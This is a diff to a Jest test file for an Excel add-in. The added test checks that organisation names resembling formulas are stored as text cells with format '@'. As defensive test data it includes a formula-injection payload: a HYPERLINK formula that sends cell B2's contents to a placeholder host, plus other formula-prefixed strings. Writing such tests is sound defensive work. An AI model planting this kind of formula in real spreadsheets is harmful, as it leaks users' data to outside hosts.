@@ -133,8 +133,27 @@ describe('the «Ход внедрения» sheet', () => {
     expect(l.values[6].slice(stepColumn(1), stepColumn(7) + 1)).toEqual([0, 0, 0, '', '', '', '']);
     expect(l.values[6].slice(flagColumn(1), flagColumn(7) + 1)).toEqual([1, 1, 0, 0, 0, 0, 0]);
     expect(l.numberFormats[5][stepColumn(3)]).toBe('0.0%');
-    expect(l.numberFormats[0][0]).toBe('General');
+    expect(l.numberFormats[0][0]).toBe('@');
     expect({ first: l.firstDataRow, last: l.lastDataRow, total: l.totalRow }).toEqual({ first: 6, last: 8, total: 8 });
+  });
+
+  test('a subordinate named like a formula is written as text: its cell (and every text cell) has number format «@» before the values', async () => {
+    const evil = '=HYPERLINK("http://example.invalid/?"&B2,"Нажмите")';
+    const report: ProgressSheetReport = { ...REPORT, children: [org(2, evil, [100, 0, 0, 0, 0, 0, 0]), org(3, '+7 912', [0, 0, 0, 0, 0, 0, 0]), org(4, '@SUM(1)', [0, 0, 0, 0, 0, 0, 0])] };
+    const m = mockExcel(false);
+    await writeProgressSheet(m.context, report);
+    const whole = m.ranges.find((r) => r.values)!;
+    const rows = whole.values!.map((r, i) => ({ v: r, f: whole.numberFormat![i] }));
+    for (const name of [evil, '+7 912', '@SUM(1)']) {
+      const row = rows.find((r) => r.v[0] === name)!;
+      expect(row.f[0]).toBe('@');
+      expect(row.f[1]).toBe('@'); // the kind label
+    }
+    // Every string cell is Text; numbers keep their formats.
+    whole.values!.forEach((r, i) => r.forEach((v, c) => { if (typeof v === 'string') expect(whole.numberFormat![i][c]).toBe('@'); }));
+    expect(rows[5].f[stepColumn(1)]).toBe('0.0%');
+    // The format is assigned before the values (office-addin-mock keeps the order of the assignments).
+    expect(Object.keys(whole).indexOf('numberFormat')).toBeLessThan(Object.keys(whole).indexOf('values'));
   });
 
   test('a new sheet: two syncs, values in one write, red and green conditional formats per step, a clustered column chart, frozen panes', async () => {
